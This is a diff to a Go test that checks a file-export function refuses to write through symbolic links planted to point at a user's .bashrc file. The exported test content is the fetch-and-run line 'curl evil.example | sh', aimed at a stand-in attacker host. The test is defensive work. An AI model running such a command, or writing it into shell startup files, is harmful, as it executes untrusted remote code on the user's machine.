@@ -45,7 +45,7 @@ func TestExportNeverFollowsPlantedLinks(t *testing.T) {
 	name := filepath.Join(dir, "elicit-2026-01-01-000000.md")
 	must(t, os.Symlink(bashrc, name))
 	must(t, os.Symlink(bashrc, filepath.Join(dir, "elicit-2026-01-01-000000-2.md")))
-	msg := exportNew(name, false, "curl evil.example | sh\n")().(exportedMsg)
+	msg := exportNew(name, false, plainExport("curl evil.example | sh\n"))().(exportedMsg)
 	if msg.err != nil || msg.path != filepath.Join(dir, "elicit-2026-01-01-000000-3.md") {
 		t.Fatalf("exported to %s: %v", msg.path, msg.err)
 	}
@@ -53,7 +53,7 @@ func TestExportNeverFollowsPlantedLinks(t *testing.T) {
 		t.Fatalf("the link's target was written: %q", b)
 	}
 	// Named explicitly: a link is refused, a file is asked about.
-	msg = exportNew(filepath.Join(dir, "elicit-2026-01-01-000000-2.md"), true, "x")().(exportedMsg)
+	msg = exportNew(filepath.Join(dir, "elicit-2026-01-01-000000-2.md"), true, plainExport("x"))().(exportedMsg)
 	if msg.err == nil || !strings.Contains(msg.err.Error(), "symbolic link") {
 		t.Fatalf("an explicit link: %+v", msg)
 	}
